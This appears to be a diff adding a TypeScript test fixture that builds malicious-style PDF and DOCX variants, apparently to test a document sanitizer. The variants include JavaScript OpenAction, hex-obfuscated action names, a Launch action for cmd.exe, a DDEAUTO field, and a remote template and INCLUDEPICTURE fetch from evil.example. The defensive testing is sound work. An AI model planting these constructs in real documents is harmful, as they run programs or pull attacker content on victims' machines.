@@ -1,0 +1,55 @@
+const put = (into: string) => (pdf: string) => pdf.replace('/Type /Catalog', `/Type /Catalog ${into}`);
+
+/** PDFs that run, start, carry or hide something, from one of ours. */
+export const actingPdfs: [what: string, change: (pdf: string) => string][] = [
+  ['runs at opening', put('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')],
+  ['names its act in hexadecimal', put('/Open#41ction << /S /J#61vaScript >>')],
+  ['acts on events', put('/AA << /O << /S /URI >> >>')],
+  ['starts a program', put('/X << /S /Launch /F (cmd.exe) >>')],
+  ['carries a file', put('/Names << /EmbeddedFiles 1 0 R >>')],
+  ['sends a form', put('/AcroForm << /Fields [] >>')],
+  [
+    'has an update behind its end',
+    (pdf) =>
+      `${pdf}\n1 0 obj\n<< /Type /Catalog >>\nendobj\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< >>\nstartxref\n9\n%%EOF\n`,
+  ],
+  ['has bytes behind its end', (pdf) => `${pdf}<script>alert(1)</script>`],
+  ['has a second table', (pdf) => pdf.replace('startxref', 'startxref\n5\n%%EOF\nstartxref')],
+  [
+    'holds an object that no table names',
+    (pdf) => pdf.replace(/\nxref\n/, '\n9999 0 obj\n<< /Type /Catalog >>\nendobj\nxref\n'),
+  ],
+  ['hides objects in a stream', put('/X << /Type /ObjStm >>')],
+  ['begins as something else', (pdf) => `<html>${pdf}`],
+];
+
+const inDocument = (xml: string) => (files: Map<string, Uint8Array>) => {
+  const text = new TextDecoder().decode(files.get('word/document.xml'));
+  files.set('word/document.xml', new TextEncoder().encode(text.replace('<w:p>', `${xml}<w:p>`)));
+};
+
+/** DOCX files that run, fetch or carry something, from the parts of one of ours. */
+export const actingDocx: [what: string, edit: (files: Map<string, Uint8Array>) => void][] = [
+  ['carries a macro', (files) => void files.set('word/vbaProject.bin', new Uint8Array([1]))],
+  ['carries a file', (files) => void files.set('word/embeddings/oleObject1.bin', new Uint8Array([1]))],
+  [
+    'loads a template from elsewhere',
+    (files) =>
+      void files.set(
+        'word/_rels/settings.xml.rels',
+        new TextEncoder().encode(
+          '<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>',
+        ),
+      ),
+  ],
+  [
+    'has a field that starts a program',
+    inDocument('<w:p><w:r><w:instrText>DDEAUTO c:\\cmd.exe</w:instrText></w:r></w:p>'),
+  ],
+  [
+    'has a field that fetches',
+    inDocument('<w:p><w:fldSimple w:instr="INCLUDEPICTURE https://evil.example/a.png"/></w:p>'),
+  ],
+  ['brings in a foreign chunk', inDocument('<w:altChunk r:id="x"/>')],
+  ['has entities of its own', inDocument('<!DOCTYPE x [<!ENTITY a "b">]>')],
+];
